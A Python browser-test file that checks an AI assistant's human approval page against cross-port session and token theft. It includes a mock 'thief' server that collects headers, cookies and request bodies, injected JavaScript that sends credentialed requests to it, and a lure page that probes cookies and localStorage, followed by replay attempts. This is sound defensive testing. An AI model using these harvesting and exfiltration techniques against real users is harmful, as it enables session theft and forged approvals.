"""A thief on another port of this machine, in a real browser: it gets nothing to approve with."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import Page, expect
from typing_extensions import override

from _support.browsers import Served, Window
from _support.open_approvals import SHOWN
from _support.timeouts import TIMEOUT
from chasedata_mcp.ledger import Approval, ApprovalState

HOSTS = ("127.0.0.1", "localhost")
ELSEWHERE = "http://elsewhere.example/"
COUNTED = "arrived"
"""What the thief's answers are called, so that a page can tell that one has come."""


@dataclass
class Thief:
    """A server on a port of its own: what it serves, and all that browsers sent it."""

    port: int = 0
    aims_at: int = 0
    pages: dict[str, str] = field(default_factory=dict[str, str])
    asked: set[str] = field(default_factory=set[str])
    stolen: set[str] = field(default_factory=set[str])
    cookies: set[str] = field(default_factory=set[str])

    def serves(self, path: str, body: str, host: str) -> str:
        """Serve a page under any path; its address."""
        self.pages[path] = body
        return f"http://{host}:{self.port}{path}"


class Handler(BaseHTTPRequestHandler):
    """Answers everything, keeps all that it is sent, and sets a cookie for every port."""

    thief: Thief

    def do_GET(self) -> None:
        thief, path = self.thief, self.path.partition("?")[0]
        thief.asked.add(self.path)
        thief.stolen.update(value for _, value in self.headers.items())
        thief.cookies.update(self.headers.get_all("cookie", []))
        length = int(self.headers.get("content-length", "0"))
        thief.stolen.add(self.rfile.read(length).decode())
        self.send_response(200)
        self.send_header("content-type", "text/html")
        origin = self.headers.get("origin", "")
        self.send_header("access-control-allow-origin", origin)
        self.send_header("access-control-allow-credentials", "true")
        self.send_header("set-cookie", f"approvals-{thief.aims_at}=tossed; Path=/approvals")
        self.end_headers()
        self.wfile.write(thief.pages.get(path, f"<title>{COUNTED}</title>").encode())

    do_POST = do_GET  # noqa: N815 - the library's name

    @override
    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def stealing(aims_at: int) -> Iterator[Thief]:
    """A thief that runs as long as what is inside."""
    thief = Thief(aims_at=aims_at)
    handler = type("Handling", (Handler,), {"thief": thief})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thief.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield thief
        finally:
            server.shutdown()


def goes_everywhere(page: Page, addresses: list[str]) -> None:
    """Let a page that is open lead the browser to addresses in every way that there is."""
    for address in addresses:
        page.evaluate(
            """async (address) => {
              const html = [
                `<iframe src="${address}?iframe"></iframe>`,
                `<img src="${address}?img">`,
                `<object data="${address}?object"></object>`,
                `<link rel="stylesheet" href="${address}?link">`,
                `<form method="post" action="${address}?form" target="into"></form>`,
                `<iframe name="into"></iframe>`,
              ].join("");
              document.body.insertAdjacentHTML("beforeend", html);
              document.forms[document.forms.length - 1].submit();
              const script = document.createElement("script");
              script.src = address + "?script";
              document.body.append(script);
              for (const mode of ["cors", "no-cors"]) {
                await fetch(address + "?fetch", { credentials: "include", mode }).catch(() => null);
              }
              navigator.sendBeacon(address + "?beacon", "x");
            }""",
            address,
        )
        page.wait_for_load_state("networkidle")


def by_navigating(page: Page, address: str) -> None:
    """Open an address by a link, a form and a redirect of another site's."""
    shown = escape(address)
    page.route(
        ELSEWHERE,
        lambda route: route.fulfill(
            content_type="text/html",
            body=f'<a href="{shown}">on</a><form action="{shown}"><button>go</button></form>',
        ),
    )
    page.route(
        f"{ELSEWHERE}redirects",
        lambda route: route.fulfill(status=302, headers={"location": address}),
    )
    for way in (page.get_by_role("link", name="on"), page.get_by_role("button", name="go")):
        page.goto(ELSEWHERE)
        way.click()
        expect(page).to_have_title(COUNTED)
    page.goto(f"{ELSEWHERE}redirects")
    expect(page).to_have_title(COUNTED)


def paths_of(asked: Approval) -> list[str]:
    """The paths of the page that anybody knows."""
    parts = ("", "/", f"/q/{asked.id}", "/live", "/s", "/s/", "/sign-in", "/static/approvals.js")
    return [f"/approvals{part}" for part in parts]


def tries_what_it_has(served: Served, thief: Thief, asked: Approval) -> None:
    """Ask the page and answer the question with everything that was sent to the thief."""
    home = {"origin": served.address, "sec-fetch-site": "same-origin"}
    with httpx.Client(base_url=served.address, timeout=TIMEOUT) as client:
        for cookies in thief.cookies:
            for path in {*paths_of(asked), *(one.partition("?")[0] for one in thief.asked)}:
                headers = {"cookie": cookies, **home}
                found = client.get(path, headers=headers, follow_redirects=True)
                assert SHOWN not in found.text
                token = found.text.partition('name="token" value="')[2].partition('"')[0]
                form = {"token": token, "answer": "approve", "confirm": SHOWN}
                client.post(path, data=form, headers=headers)
    assert served.do(served.approvals.state, asked) is ApprovalState.ASKED


@pytest.mark.parametrize("own", HOSTS)
def test_another_port_is_sent_nothing_that_lets_it_approve(window: Window, own: str) -> None:
    page, served = window.page, window.served
    served.address = served.address.replace("127.0.0.1", own)
    asked = served.do(served.approvals.deletion)
    window.sign_in()
    home = page.url
    ours = {one["value"] for one in page.context.cookies() if "value" in one}
    assert "/approvals/s/" in home
    assert len(ours) == 1
    secrets = {*ours, home.rpartition("/")[2]}
    with stealing(int(served.address.rpartition(":")[2])) as thief:
        for host in HOSTS:
            out_of_band = page.context.new_page()
            for path in ("/approvals", f"/approvals/q/{asked.id}"):
                by_navigating(out_of_band, thief.serves(path, f"<title>{COUNTED}</title>", host))
            out_of_band.goto(thief.serves("/approvals", "<body>thief</body>", host))
            goes_everywhere(
                out_of_band, [f"http://{host}:{thief.port}{p}" for p in paths_of(asked)]
            )
            out_of_band.close()
        ways = {path.partition("?")[2] for path in thief.asked}
        assert {"iframe", "img", "form", "fetch", "script", "beacon", "link", "object"} <= ways
        for sent in thief.stolen | thief.asked:
            assert not any(secret in sent for secret in secrets)
        tries_what_it_has(served, thief, asked)
    # The cookie that the thief set for every port keeps nobody out.
    page.goto(home)
    page.get_by_label("To approve, type the phone number").fill(SHOWN)
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_text("Approved. The assistant can go on.")).to_be_visible()
    assert served.do(served.approvals.state, asked) is ApprovalState.GRANTED
    window.complaints.clear()


@pytest.mark.parametrize("host", HOSTS)
def test_a_page_of_another_port_sees_nothing_of_where_its_links_lead(
    window: Window, host: str
) -> None:
    page, served = window.page, window.served
    asked = served.do(served.approvals.deletion)
    window.sign_in()
    target = f"{served.address}/approvals/q/{asked.id}"
    body = f"""<body><iframe src="{target}"></iframe><script>
      const opened = open("{target}");
      const tried = async (what) => {{
        try {{ return String(await what()); }} catch {{ return "no"; }}
      }};
      setTimeout(async () => {{
        const seen = [
          await tried(() => opened.location.href),
          await tried(() => frames[0].location.href),
          await tried(async () => (await fetch("{target}", {{ credentials: "include" }})).text()),
          await tried(() => opened.localStorage.getItem("approvals")),
          await tried(() => String(localStorage.getItem("approvals"))),
          document.cookie,
        ];
        document.title = seen.join("|");
      }}, 500);
    </script></body>"""
    with stealing(int(served.address.rpartition(":")[2])) as thief:
        lure = page.context.new_page()
        with page.context.expect_page() as opened:
            lure.goto(thief.serves("/lure", body, host))
        # The person who follows such a link is where they are signed in, and the thief is not told.
        expect(opened.value.get_by_role("button", name="Approve")).to_be_visible()
        lure.wait_for_function("document.title !== ''")
        assert "/approvals/s/" not in lure.title()
        assert SHOWN not in lure.title()
        assert not any("/approvals/s/" in sent for sent in thief.stolen | thief.asked)
    assert served.do(served.approvals.state, asked) is ApprovalState.ASKED
    window.complaints.clear()


def test_a_session_is_found_again_by_a_reload_another_tab_and_a_link(window: Window) -> None:
    page, served = window.page, window.served
    asked = served.do(served.approvals.deletion)
    window.sign_in()
    page.reload()
    expect(page.get_by_role("button", name="Approve")).to_be_visible()
    tab = page.context.new_page()
    for path in ("/", "/approvals", f"/approvals/q/{asked.id}"):
        tab.goto(f"{served.address}{path}")
        expect(tab.get_by_role("button", name="Approve")).to_be_visible()
    tab.get_by_role("button", name="Sign out").click()
    expect(tab.get_by_role("heading", name="Sign in")).to_be_visible()
    tab.goto(f"{served.address}/approvals")
    expect(tab.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(page.get_by_role("alert")).to_contain_text("You are signed out")
    window.complaints.clear()  # the browser notes the refusal


def test_without_scripts_a_link_asks_for_the_code_and_leads_to_the_question(
    window: Window,
) -> None:
    served = window.served
    asked = served.do(served.approvals.deletion)
    browser = window.page.context.browser
    assert browser is not None
    with browser.new_context(java_script_enabled=False) as context:
        page = context.new_page()
        for _ in range(2):
            page.goto(f"{served.address}/approvals/q/{asked.id}")
            page.get_by_label("Code").fill(served.codes[-1])
            page.get_by_role("button", name="Sign in").click()
            expect(page.get_by_role("button", name="Approve")).to_be_visible()
        page.get_by_label("To approve, type the phone number").fill(SHOWN)
        page.get_by_role("button", name="Approve").click()
        expect(page.get_by_text("You can go back to your assistant.")).to_be_visible()
    assert served.do(served.approvals.state, asked) is ApprovalState.GRANTED
